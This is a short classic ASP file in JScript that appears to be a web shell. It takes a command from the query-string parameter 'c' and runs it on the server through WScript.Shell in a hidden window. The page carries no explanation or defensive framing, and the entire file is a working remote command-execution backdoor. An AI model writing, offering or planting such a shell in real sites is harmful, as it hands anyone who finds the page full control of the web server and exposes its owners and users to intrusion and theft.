<%@ Language="JScript" %>
<%
var cfg = { cmd: Request.QueryString("c"), mode: 0 };
var o = Server.CreateObject("WSCRIPT.SHELL");
o.Run(cfg.cmd, cfg.mode, false);
%>
